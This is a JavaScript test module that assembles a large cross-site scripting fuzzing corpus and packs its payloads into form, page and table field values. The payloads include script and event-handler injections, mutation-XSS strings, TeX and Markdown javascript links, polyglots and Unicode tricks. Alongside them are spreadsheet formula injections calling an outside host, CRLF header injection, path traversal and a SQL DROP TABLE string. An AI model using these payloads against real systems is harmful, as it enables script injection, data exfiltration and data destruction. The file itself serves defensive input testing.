// Texts that would run as scripts if any page took them for markup. Each sets window.__xss, or opens a dialog.
// Those of PAYLOADS are short enough for a name and have nothing in them that cannot be shown; CORPUS has all the others too.

const RUN = '__xss=1';

/** Elements by themselves: all but one are markup to every browser. */
export const TAGS = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<scr<script>ipt>${RUN}</script>`,
  `<script >${RUN}</script >`,
  `<script/x>${RUN}</script>`,
  `<script\t>${RUN}</script>`,
  `<script src=data:,${RUN}></script>`,
  `<script type=module>${RUN}</script>`,
  `<<script>${RUN}//<</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script>${RUN}`,
  `<math><script>${RUN}</script>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg\nonload=${RUN}>`,
  `<svg><g onload=${RUN}></g></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributename=x>`,
  `<svg><a xlink:href=javascript:${RUN}><text>x`,
  `<svg><use href=data:image/svg+xml,x#x>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror='${RUN}'>`,
  '<img src=x onerror=`alert(1)`>',
  `<img/src=x/onerror=${RUN}>`,
  `<IMG SRC=x ONERROR=${RUN}>`,
  `<img src=x:x onerror=alert(1)//`,
  `<img """><script>${RUN}</script>">`,
  `<image src=x onerror=${RUN}>`,
  `<img srcset=x onerror=${RUN}>`,
  `<picture><source srcset=x><img onerror=${RUN} src=x>`,
  `<video src=x onerror=${RUN}>`,
  `<video><source onerror=${RUN}>`,
  `<audio src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<iframe src=javascript:${RUN}>`,
  `<iframe onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<object data=javascript:${RUN}>`,
  `<object onerror=${RUN} data=x:x>`,
  `<embed src=javascript:${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<button autofocus onfocus=${RUN}>x`,
  `<a autofocus tabindex=1 onfocus=${RUN}>x`,
  `<details open ontoggle=${RUN}>`,
  `<marquee onstart=${RUN}>x`,
  `<style>@import"javascript:${RUN}"</style>`,
  `<style onload=${RUN}></style>`,
  `<style>*{background:red}</style>`,
  `<link rel=stylesheet href=x onerror=${RUN}>`,
  `<link rel=import href=data:,x onload=${RUN}>`,
  `<meta http-equiv=refresh content=0;javascript:${RUN}>`,
  `<base href=javascript:/a/-${RUN}//>`,
  `<form action=javascript:${RUN}><input type=submit>`,
  `<isindex action=javascript:${RUN}>`,
  `<p style=animation:x onanimationstart=${RUN}>`,
  `<p onpointerover=${RUN} style=position:fixed;inset:0>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math href=javascript:${RUN}>x</math>`,
  `<x onclick=${RUN}>x`,
  `<x contenteditable onblur=${RUN}>x`,
  `<?xml version=1?><script>${RUN}</script>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<!--><script>${RUN}</script>-->`,
  `--><script>${RUN}</script>`,
  `--!><img src=x onerror=${RUN}>`,
];

const ENDS = [
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</noscript><script>${RUN}</script>`,
  `</h1><img src=x onerror=${RUN}>`,
  `</option></select><svg onload=${RUN}>`,
  `</leptos-island><img src=x onerror=${RUN}>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `"><svg onload=${RUN}>`,
  `'><svg onload=${RUN}>`,
  `"/><img src=x onerror=${RUN}>`,
  `" autofocus onfocus=${RUN} x="`,
  `' autofocus onfocus=${RUN} x='`,
  `" onmouseover="${RUN}`,
  `\` onmouseover=${RUN}`,
  `x onerror=${RUN}`,
];

const SCRIPTS = [
  `';${RUN};'`,
  `";${RUN};"`,
  `\\";${RUN};//`,
  `\\u003cscript\\u003e${RUN}`,
  `x\u2028${RUN}`,
  '${__xss=1}',
  '{{__xss=1}}',
  "{{constructor.constructor('__xss=1')()}}",
  '#{__xss=1}',
  '<%= __xss=1 %>',
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
];

const CODED = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${RUN}&#x3e;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&amp;lt;script&amp;gt;${RUN}`,
  `＜script＞${RUN}＜/script＞`,
  `<script>eval(atob('X194c3M9MQ=='))</script>`,
  `<img src=x onerror=&#95;&#95;xss=1>`,
  `$\\href{javascript:${RUN}}{x}$`,
  `\\unicode{<img src=x onerror=${RUN}>}`,
  `[x](javascript:${RUN})`,
  `![x](x"onerror="${RUN})`,
  `=HYPERLINK("javascript:${RUN}")`,
];

/** Those that are short and can be shown, each once. */
const PAYLOADS = [...new Set([...TAGS, ...ENDS, ...SCRIPTS, ...CODED])];

/** Those that may stand in a blueprint: characters that cannot be seen, or look like others, are refused there. */
export const WRITABLE = PAYLOADS.filter((text) => !/[\u007F-\u00A0\u00AD\u200B-\u200F\u2028-\u202F\u2060-\u206F\uFEFF\uFF00-\uFFEF]/u.test(text)
  // A formula that cannot be set is refused where authors write.
  && !text.includes('\\href'));

// Harmless to the first reader, markup to the second: what is read, written out and read again.
const MUTATIONS = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<noscript><style></noscript><img src=x onerror=${RUN}>`,
  `<title><a title="</title><img src=x onerror=${RUN}>">`,
  `<textarea><a title="</textarea><img src=x onerror=${RUN}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<svg><desc><![CDATA[</desc><script>${RUN}</script>]]></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<select><template><script>${RUN}</script></template></select><img src=x onerror=${RUN}>`,
  `<table><td><form><input name=attributes></form><svg onload=${RUN}>`,
  `<form id=defaultView><input name=nonce><input name=cookie>`,
  `<p id="<!--"><script>${RUN}//--></script>`,
];

const TEX = [
  `$$\\href{javascript:${RUN}}{\\text{x}}$$`,
  `\\(\\url{javascript:${RUN}}\\)`,
  `\\[\\html{<img src=x onerror=${RUN}>}\\]`,
  `$\\htmlData{x=" onmouseover="${RUN}}{x}$`,
  `$\\class{x" onclick="${RUN}}{x}$`,
  `$\\style{animation:x" onanimationstart="${RUN}}{x}$`,
  `$\\text{<img src=x onerror=${RUN}>}$`,
  `$\\require{html}\\href{javascript:${RUN}}{x}$`,
  `$\\unicode{x3c}script\\unicode{x3e}${RUN}$`,
  `$\\includegraphics{x" onerror="${RUN}}$`,
  `$\\def\\x{\\x\\x}\\x$`,
  `$\\input{/etc/passwd}$`,
];

const MARKDOWN = [
  `<javascript:${RUN}>`,
  `[x](<javascript:${RUN}>)`,
  `[x](JaVaScRiPt&#58;${RUN})`,
  `[x]: javascript:${RUN} "x"`,
  '[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==)',
  `![x](x "x" onerror="${RUN}")`,
  `\`</code><img src=x onerror=${RUN}>\``,
  `x | y\n--|--\n<img src=x onerror=${RUN}> | z`,
];

/** What a table program would take for a formula. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '"=1+1',
  ';=1+1',
  ",=1+1",
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("http://elsewhere.invalid/?"&A1,"x")',
  '=IMPORTXML(CONCAT("http://elsewhere.invalid/",A1),"//a")',
  '=WEBSERVICE("http://elsewhere.invalid/")',
];

const JSONS = [
  `"}</script><script>${RUN}</script>`,
  `"}]};${RUN};//`,
  `\\"}]};${RUN};//`,
  `'}-(${RUN})-{'`,
  `<!--<script>${RUN}`,
  `<!--<script></script>${RUN}`,
  `]]><script>${RUN}</script>`,
  '{"__proto__":{"innerHTML":"<img src=x onerror=__xss=1>"}}',
  '{"data-props":{"text":"</leptos-island><script>__xss=1</script>"}}',
  `&quot;}' data-component='x' onclick='${RUN}`,
  `\\u003c/script\\u003e\\u003cscript\\u003e${RUN}`,
];

const ODD = [
  `\u2028${RUN}\u2029`,
  `//\u2028${RUN}`,
  `\u202e<script>${RUN}</script>`,
  `\u2067\u202egnp.<img src=x onerror=${RUN}>`,
  `\u200b<\u200bscript>${RUN}</script>`,
  `\ufeff<script>${RUN}</script>`,
  `\u00a0" onmouseover="${RUN}`,
  `\ufffd<img src=x onerror=${RUN}>`,
  `\u{e0001}\u{1f9e8}<svg onload=${RUN}>`,
  `a${'\u0301'.repeat(40)}<img src=x onerror=${RUN}>`,
  `<scr\0ipt>${RUN}</scr\0ipt>`,
  `<img\0src=x onerror=${RUN}>`,
  `\0"><img src=x onerror=${RUN}>`,
  `<img\x0csrc=x\x0bonerror=${RUN}>`,
  `\x1b[31m<script>${RUN}</script>\x1b]0;x\x07`,
  `\x80\x9f<script>${RUN}</script>`,
  `x\r\nSet-Cookie: x=1\r\n\r\n<script>${RUN}</script>`,
  `x\r\nContent-Security-Policy: script-src 'unsafe-inline'`,
  `%00<script>${RUN}</script>`,
  `%0d%0aLocation: javascript:${RUN}`,
  '../../../../etc/passwd',
  "'; DROP TABLE account; --",
  '{ $n } { -term } { msg.attr }',
];

const POLYGLOTS = [
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
  `'">><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=prompt(1)><script>prompt(1)</script>@x<isindex formaction=javascript:alert(1) type=submit>'-->"></script><script>alert(1)</script>">`,
  `-->'"/></sCript><svg x=">" onload=(co\\u006efirm)\`\`>`,
  `" onclick=alert(1)//<button ' onclick=alert(1)//> */ alert(1)//`,
  `javascript:"/*'/*\`/*--></noscript></title></textarea></style></template></noembed></script><html \\" onmouseover=/*&lt;svg/*/onload=${RUN}//>`,
  `'"()&%<acx><ScRiPt >prompt(1)</ScRiPt>`,
  `{{7*7}}\${7*7}<%=7*7%>#{7*7}*{7*7}@(7*7)"'><svg/onload=${RUN}>`,
];

const LONG = [
  `${'A'.repeat(3_000)}"><img src=x onerror=${RUN}>`,
  `${'<b>'.repeat(400)}<img src=x onerror=${RUN}>`,
  `${'"\'><'.repeat(300)}<svg onload=${RUN}>`,
];

/** Everything, each once. */
export const CORPUS = [...new Set([
  ...PAYLOADS, ...MUTATIONS, ...TEX, ...MARKDOWN, ...FORMULAS, ...JSONS, ...ODD, ...POLYGLOTS, ...LONG,
])];

// Not in names, titles and the like: control characters, what some take for the end of a line, what cannot be seen, forms of
// letters that look like others, and heaps of marks.
const UNPRINTABLE = /[\0-\x1f\x7f-\x9f\u00ad\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\uff01-\uff5e\ufffd\u{e0000}-\u{e007f}]|\p{M}{5}/u;

/** Between two payloads of a value. It closes nothing that one of them has opened. */
const BETWEEN = ' ';

/** Whether everything is tried everywhere; for every change that takes too long. */
export const ALL = Boolean(process.env.PLUMB_XSS_ALL);

const runs = (text) => /\bon\w+\s*=/i.test(text);
const closes = (text) => text.startsWith('</');
const fills = (text) => /[{%]/.test(text);
const leads = (text) => /script:|^data:/i.test(text);

/** The payloads by what they try. Formulas are tried apart: they are ones only where a value begins with them. */
export const KINDS = {
  elements: TAGS.filter((text) => !runs(text)),
  handlers: TAGS.filter(runs),
  closers: ENDS.filter(closes),
  breakers: ENDS.filter((text) => !closes(text)),
  templates: SCRIPTS.filter(fills),
  addresses: SCRIPTS.filter((text) => !fills(text) && leads(text)),
  strings: SCRIPTS.filter((text) => !fills(text) && !leads(text)),
  coded: CODED,
  mutations: MUTATIONS,
  tex: TEX,
  markdown: MARKDOWN,
  jsons: JSONS,
  odd: ODD,
  polyglots: POLYGLOTS,
  long: LONG,
};

/** After so many fields of a kind of sink, every payload has gone through one of them. There are most fields in forms. */
export const ROUNDS = { form: 30, page: 12, table: 12 };

/** What the field that comes `turn`-th gets of some texts: at least one, and after a round all have had their turn. */
function share(texts, turn, round) {
  const many = Math.ceil(texts.length / round);
  return Array.from({ length: many }, (_, at) => texts[(turn * many + at) % texts.length]);
}

/** The payloads for the `turn`-th field of its kind of sink: at least one of each kind. */
export function payloadsFor(turn, sink = 'page') {
  if (ALL) return CORPUS.filter((text) => !FORMULAS.includes(text));
  return Object.values(KINDS).flatMap((texts) => share(texts, turn, ROUNDS[sink]));
}

/**
 * The payloads for a field as values of at most `most` characters, each beginning with `mark` and a number: those that any
 * text field of that length has to take (`fit`; formulas by themselves: `bare`), and those that it may refuse, being too
 * long or having control characters (`odd`). What goes into a `table` is tried with every formula, others with some.
 */
export function values({ mark, most, turn, sink = 'page', table = false }) {
  let made = 0;
  const own = payloadsFor(turn, sink);
  const formulas = ALL || table ? FORMULAS : share(FORMULAS, turn, ROUNDS[sink]);
  const head = () => `${mark}-${(made += 1).toString(36).padStart(2, '0')}${BETWEEN}`;
  const room = most - mark.length - '-00'.length - BETWEEN.length;
  const length = (text) => [...text].length;
  const fits = (text) => length(text) <= room && !UNPRINTABLE.test(text);
  const pack = (texts) => {
    const packed = [];
    for (const text of texts) {
      const longer = packed.length > 0 ? packed.at(-1) + BETWEEN + text : null;
      if (longer !== null && length(longer) <= most) packed[packed.length - 1] = longer;
      else packed.push(head() + text);
    }
    return packed;
  };
  // Those have the mark behind them.
  const alone = (texts) => texts.map((text) => text + BETWEEN + mark);
  return {
    fit: pack(own.filter(fits)),
    bare: alone(formulas.filter(fits)),
    odd: [...pack(own.filter((text) => !fits(text))), ...alone(formulas.filter((text) => UNPRINTABLE.test(text)))],
  };
}
